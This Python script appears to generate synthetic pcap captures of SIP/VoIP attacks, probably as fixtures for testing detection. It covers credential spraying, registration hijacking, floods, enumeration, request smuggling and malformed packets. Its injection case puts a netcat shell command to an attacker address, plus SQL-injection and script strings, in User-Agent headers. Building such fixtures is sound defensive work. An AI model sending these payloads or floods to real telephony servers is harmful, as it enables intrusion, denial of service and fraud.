#!/usr/bin/env python3
"""Writes the small captures of attacks that no packaged tool makes.

Usage: make_attacks.py DIRECTORY [NAME...]; the same arguments give the same bytes. The
packets are whole: Ethernet, IPv4 and UDP or TCP with right checksums, in a pcap file.
"""

import struct
import sys
from pathlib import Path

ATTACKER, SERVER, PHONE = "198.51.100.66", "192.0.2.20", "192.0.2.10"
START_US = 1_767_225_600_000_000
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def address(text):
    return bytes(int(part) for part in text.split("."))


class Capture:
    def __init__(self):
        self.records = []
        self.now_us = START_US
        self.identity = 0
        self.connections = {}

    def wait(self, seconds):
        self.now_us += round(seconds * 1e6)

    def packet(self, src, dst, protocol, payload):
        self.identity = self.identity % 65535 + 1
        header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), self.identity, 0, 64, protocol, 0)
        header += address(src) + address(dst)
        header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
        frame = bytes.fromhex("020000000002020000000001" "0800") + header + payload
        self.records.append((self.now_us, frame))
        self.wait(0.001)

    def udp(self, src, dst, payload, ports=(5060, 5060)):
        head = struct.pack(">HHH", *ports, 8 + len(payload))
        pseudo = address(src) + address(dst) + struct.pack(">BBH", 0, 17, 8 + len(payload))
        total = checksum(pseudo + head + b"\0\0" + payload) or 0xffff
        self.packet(src, dst, 17, head + struct.pack(">H", total) + payload)

    def segment(self, src, dst, ports, numbers, flags, payload=b""):
        head = struct.pack(">HHIIBBHHH", *ports, *numbers, 0x50, flags, 65535, 0, 0)
        pseudo = address(src) + address(dst) + struct.pack(">BBH", 0, 6, len(head) + len(payload))
        total = checksum(pseudo + head + payload)
        self.packet(src, dst, 6, head[:16] + struct.pack(">H", total) + head[18:] + payload)

    def tcp(self, src, dst, port, payload):
        """A handshake and one segment from a client's port to 5060."""
        self.segment(src, dst, (port, 5060), (1000, 0), 0x02)
        self.segment(dst, src, (5060, port), (5000, 1001), 0x12)
        self.segment(src, dst, (port, 5060), (1001, 5001), 0x10)
        self.segment(src, dst, (port, 5060), (1001, 5001), 0x18, payload)

    def write(self, path):
        with open(path, "wb") as file:
            file.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 262144, 1))
            for time_us, frame in self.records:
                file.write(struct.pack("<IIII", time_us // 1000000, time_us % 1000000, len(frame), len(frame)))
                file.write(frame)


def request(method, number, **more):
    """A request; more: src, user, to, uri, call, cseq, branch, hops, lines, body."""
    src = more.get("src", ATTACKER)
    call = more.get("call", f"call-{number}@example.net")
    body = more.get("body", b"")
    to = more.get("to", "200")
    lines = [
        f"{method} {more.get('uri', f'sip:{to}@{SERVER}')} SIP/2.0",
        f"Via: SIP/2.0/{more.get('transport', 'UDP')} {src}:5060;branch={more.get('branch', f'z9hG4bK{number:06d}{method}')};rport",
        f"Max-Forwards: {more.get('hops', 70)}",
        f"From: <sip:{more.get('user', '100')}@example.net>;tag=tag{number}",
        f"To: <sip:{to}@example.net>{more.get('to_tag', '')}",
        f"Call-ID: {call}",
        f"CSeq: {more.get('cseq', 1)} {method}",
        f"Contact: {more.get('contact', f'<sip:100@{src}:5060>')}",
        *more.get("lines", []),
        f"Content-Length: {len(body)}", "", ""]
    return "\r\n".join(lines).encode() + body


def response(message, status, *lines, body=b""):
    """The answer to a request: its Via, From, To, Call-ID and CSeq come back."""
    wanted = (b"Via:", b"From:", b"To:", b"Call-ID:", b"CSeq:")
    kept = [line for line in message.split(b"\r\n\r\n")[0].split(b"\r\n")[1:] if line.startswith(wanted)]
    kept = [line + b";tag=srv" if line.startswith(b"To:") and b"tag=" not in line else line for line in kept]
    tail = [*(line.encode() for line in lines), f"Content-Length: {len(body)}".encode(), b"", b""]
    return b"\r\n".join([f"SIP/2.0 {status} Answer".encode(), *kept, *tail]) + body


def exchange(capture, message, status, *lines, src=ATTACKER, dst=SERVER):
    capture.udp(src, dst, message)
    capture.udp(dst, src, response(message, status, *lines))


def credentials(user, nonce, digest, nc=None, realm="example.net"):
    text = (f'Authorization: Digest username="{user}", realm="{realm}", nonce="{nonce}", '
            f'uri="sip:example.net", response="{digest:032x}"')
    return text + (f', qop=auth, cnonce="c0ffee", nc={nc:08x}' if nc else "")


def challenge(nonce, algorithm="MD5", realm="example.net"):
    return f'WWW-Authenticate: Digest realm="{realm}", nonce="{nonce}", algorithm={algorithm}'


def sdp(host=ATTACKER, port=4000, more=""):
    return (f"v=0\r\no=- 1 1 IN IP4 {host}\r\ns=-\r\nc=IN IP4 {host}\r\nt=0 0\r\n"
            f"m=audio {port} RTP/AVP 0\r\n{more}").encode()


SDP_TYPE = ["Content-Type: application/sdp"]


def call_with(number, body, **more):
    return request("INVITE", number, lines=SDP_TYPE, body=body, **more)


@attack
def nonce_unknown(capture):
    for i in range(5):
        exchange(capture, request("REGISTER", i, lines=[credentials("100", f"forged{i}", i + 1)]),
                 401, challenge(f"right{i}"))
        capture.wait(20)


@attack
def nonce_reuse(capture):
    for i in range(4):
        exchange(capture, request("REGISTER", i, user=f"10{i}", lines=[credentials(f"10{i}", "stolen", i + 1, 1)]), 403)
        capture.wait(1)


@attack
def digest_downgrade(capture):
    for i, algorithm in enumerate(("SHA-256", "SHA-256", "MD5")):
        exchange(capture, request("REGISTER", i, src=PHONE), 401, challenge(f"n{i}", algorithm), src=PHONE)
        capture.wait(60)


@attack
def digest_leak(capture):
    for i in range(2):
        message = request("BYE", i, src=SERVER, to_tag=";tag=far")
        exchange(capture, message, 407, challenge("lure").replace("WWW", "Proxy"), src=SERVER, dst=ATTACKER)
        capture.wait(2)


@attack
def auth_distributed(capture):
    for i in range(24):
        source = f"198.51.100.{10 + i % 6}"
        exchange(capture, request("REGISTER", i, src=source, user="700", lines=[credentials("700", f"n{i}", i + 1)]),
                 403, src=source)
        capture.wait(12)


@attack
def auth_spray(capture):
    for i in range(14):
        exchange(capture, request("REGISTER", i, user=f"3{i:02d}", lines=[credentials(f"3{i:02d}", f"n{i}", 7)]), 403)
        capture.wait(15)


@attack
def auth_cracked(capture):
    for i in range(8):
        capture.udp(SERVER, ATTACKER, response(request("REGISTER", 90 + i), 401, challenge(f"n{i}")))
        status = 200 if i == 7 else 403
        exchange(capture, request("REGISTER", i, lines=[credentials("100", f"n{i}", i + 1)]), status)
        capture.wait(11)


@attack
def secret_in_clear(capture):
    key = "a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3ODkw\r\n"
    exchange(capture, call_with(1, sdp(more=key)), 403)


@attack
def registration_takeover(capture):
    """A stranger adds a binding with another device, then others wipe or multiply them."""
    old, new = ["User-Agent: Deskphone 4", "Expires: 3600"], ["User-Agent: Softclient 9", "Expires: 3600"]
    def register(number, src, lines, contact):
        message = request("REGISTER", number, src=src, to="100", lines=lines, contact=contact)
        capture.udp(src, SERVER, message)
        bindings = [] if contact == "*" else [f"Contact: {contact};expires=3600"]
        capture.udp(SERVER, src, response(message, 200, *bindings))
        capture.wait(5)
    register(1, PHONE, old, f"<sip:100@{PHONE}:5060>")
    register(2, ATTACKER, new, "<sip:100@203.0.113.99:5060>")
    register(3, "198.51.100.67", ["Expires: 0"], "*")


@attack
def registration_many(capture):
    contacts = []
    for i in range(13):
        contacts.append(f"Contact: <sip:100@{PHONE}:{6000 + i}>;expires=3600")
        message = request("REGISTER", i, src=PHONE, to="100", call="reg@example.net", cseq=i + 1,
                          contact=f"<sip:100@{PHONE}:{6000 + i}>", lines=["Expires: 3600"])
        capture.udp(PHONE, SERVER, message)
        capture.udp(SERVER, PHONE, response(message, 200, *contacts))
        capture.wait(1)


@attack
def registration_flap(capture):
    contact = f"<sip:100@{PHONE}:5060>"
    for i in range(24):
        expires = 0 if i % 2 else 3600
        message = request("REGISTER", i, src=PHONE, to="100", call="reg@example.net", cseq=i + 1,
                          contact=contact, lines=[f"Expires: {expires}"])
        capture.udp(PHONE, SERVER, message)
        capture.udp(SERVER, PHONE, response(message, 200, *([f"Contact: {contact};expires=3600"] if expires else [])))
        capture.wait(10)


@attack
def registration_storm(capture):
    for minute, count in enumerate((3, 3, 3, 3, 260)):
        capture.now_us = START_US + minute * 60_000_000
        for i in range(count):
            source = f"10.1.{i // 250}.{i % 250 + 1}"
            exchange(capture, request("REGISTER", minute * 1000 + i, src=source, user=str(i), to=str(i)), 200, src=source)
            capture.wait(0.15)


@attack
def sweep_servers(capture):
    for i in range(24):
        capture.udp(ATTACKER, f"192.0.2.{100 + i}", request("OPTIONS", i))
        capture.wait(0.5)


@attack
def sweep_ports(capture):
    for i in range(12):
        capture.udp(ATTACKER, SERVER, request("OPTIONS", i), (5060, 5060 + i))
        capture.wait(0.5)


@attack
def enumeration_distributed(capture):
    for i in range(60):
        source = f"198.51.100.{10 + i % 8}"
        exchange(capture, request("REGISTER", i, src=source, user=str(800 + i), to=str(800 + i)), 404, src=source)
        capture.wait(5)


@attack
def method_probe(capture):
    methods = "OPTIONS REGISTER INVITE MESSAGE SUBSCRIBE PUBLISH INFO REFER UPDATE NOTIFY PRACK SERVICE".split()
    for i, method in enumerate(methods):
        exchange(capture, request(method, i), 405)
        capture.wait(0.2)


@attack
def dialplan_probe(capture):
    for i, prefix in enumerate(("", "00", "9011", "000", "810", "+")):
        exchange(capture, request("INVITE", i, to=f"{prefix}972595551234", uri=f"sip:{prefix}972595551234@{SERVER}"), 404)
        capture.wait(3)


@attack
def flood_invite(capture):
    for i in range(200):
        capture.udp(ATTACKER, SERVER, request("INVITE", i))
        capture.wait(0.02)


@attack
def flood_message(capture):
    for i in range(40):
        exchange(capture, request("MESSAGE", i, to=str(200 + i % 3)), 202)
        capture.wait(0.5)


@attack
def flood_distributed(capture):
    for i in range(700):
        source = f"198.51.{100 + i % 80 // 40}.{10 + i % 40}"
        capture.udp(source, SERVER, request("INVITE", i, src=source))
        capture.wait(0.005)


@attack
def sip_loop(capture):
    """One server hands a request to itself until Max-Forwards is used up."""
    for i in range(6):
        capture.udp(SERVER, SERVER, request("INVITE", 1, hops=70 - i, branch=f"z9hG4bKloop{i}"), (5060, 5060))
    for i in range(4):
        exchange(capture, request("INVITE", 2 + i, call="round@example.net", cseq=2 + i), 482)


@attack
def sip_reflection(capture):
    for i in range(600):
        message = request("OPTIONS", i, src="203.0.113.5")
        capture.udp("203.0.113.5", SERVER, message)
        capture.udp(SERVER, "203.0.113.5", response(message, 200, *(f"X-Feature-{n}: {'x' * 60}" for n in range(32))))
        capture.wait(0.005)


@attack
def stream_abuse(capture):
    for i in range(30):
        capture.tcp(ATTACKER, SERVER, 20000 + i, request("OPTIONS", i, transport="TCP"))
        capture.wait(0.1)


@attack
def peer_crash(capture):
    for i in range(3):
        exchange(capture, request("OPTIONS", i, src=PHONE), 200, src=PHONE)
        capture.wait(5)
    broken = (b"INVITE sip:%s SIP/9.9\r\nVia: ;;;\r\nFrom: <<>>;tag=a;tag=b\r\nTo: \"x\r\n"
              b"Call-ID: \r\nCSeq: 99999999999 BYE\r\nContent-Length: -1\r\n\r\n")
    capture.udp(ATTACKER, SERVER, broken)
    for i in range(10, 20):
        capture.udp(PHONE, SERVER, request("OPTIONS", i, src=PHONE))
        capture.wait(6)
    capture.wait(60)
    capture.udp(PHONE, "192.0.2.30", request("OPTIONS", 99, src=PHONE))


@attack
def tdos(capture):
    for i in range(40):
        capture.udp(ATTACKER, SERVER, request("INVITE", i, user=f"4420{i:06d}", to="911"))
        capture.wait(5)


@attack
def malformed(capture):
    """Messages with one fault each, then descriptions with one fault each."""
    faults = [b"SIP/3.0", b"CSeq: 1 BYE", b"CSeq: x INVITE", b"Call-ID: \r\n", b"branch=old"]
    originals = [b"SIP/2.0\r\n", b"CSeq: 1 INVITE", b"CSeq: 1 INVITE", b"Call-ID: ", b"branch=z9hG4bK"]
    for i in range(20):
        k = i % len(faults)
        fault = faults[k] + (b"\r\n" if k == 0 else b"")
        capture.udp(ATTACKER, SERVER, request("INVITE", i).replace(originals[k], fault, 1))
        capture.wait(0.5)
    for i in range(5):
        capture.udp(ATTACKER, SERVER, call_with(50 + i, sdp(port=70000 + i, more="a=rtpmap:zero\r\n")))
        capture.wait(1)


@attack
def oversize(capture):
    capture.udp(ATTACKER, SERVER, request("INVITE", 1, call="c" * 400))
    capture.wait(120)
    capture.udp(ATTACKER, SERVER, request("X" * 40, 2))
    capture.wait(120)
    capture.udp(ATTACKER, SERVER, request("INVITE", 3, to="9" * 300))


@attack
def smuggling(capture):
    inner = request("BYE", 2)
    capture.udp(ATTACKER, SERVER, request("INVITE", 1, lines=["Content-Length: 700"]))
    capture.wait(90)
    capture.udp(ATTACKER, SERVER, request("OPTIONS", 3) + inner)
    capture.wait(90)
    capture.udp(ATTACKER, SERVER, request("OPTIONS", 4).replace(b"\r\nTo:", b"\nTo:").replace(b"\r\nContact", b"\rContact"))


@attack
def header_evasion(capture):
    identity = ["P-Asserted-Identity: <sip:100@example.net>", "P-Asserted-Identity : <sip:1@example.net>",
                "P-Asserted-ldentity: <sip:2@example.net>", "P_Asserted_Identity: <sip:3@example.net>"]
    capture.udp(ATTACKER, SERVER, request("INVITE", 1, lines=identity))


@attack
def injection(capture):
    agents = ["Phone' or 1=1 --", "<script>alert(1)</script>", "x | nc 198.51.100.66 4444"]
    for i, agent in enumerate(agents):
        capture.udp(ATTACKER, SERVER, request("REGISTER", i, lines=[f"User-Agent: {agent}"]))
        capture.wait(90)


@attack
def sdp_bomb(capture):
    bombs = ["m=audio 4000 RTP/AVP 0\r\n" * 25, "a=x:" + "y" * 1500 + "\r\n"]
    for i, bomb in enumerate(bombs):
        capture.udp(ATTACKER, SERVER, call_with(i, sdp(more=bomb)))
        capture.wait(90)


@attack
def sdp_loopback(capture):
    capture.udp(ATTACKER, SERVER, call_with(1, sdp(host="127.0.0.1")))
    capture.wait(90)
    capture.udp(ATTACKER, SERVER, call_with(2, sdp(host="224.0.0.9")))


def main():
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name in sys.argv[2:] or sorted(ATTACKS):
        capture = Capture()
        ATTACKS[name](capture)
        capture.write(folder / f"{name}.pcap")


if __name__ == "__main__":
    main()
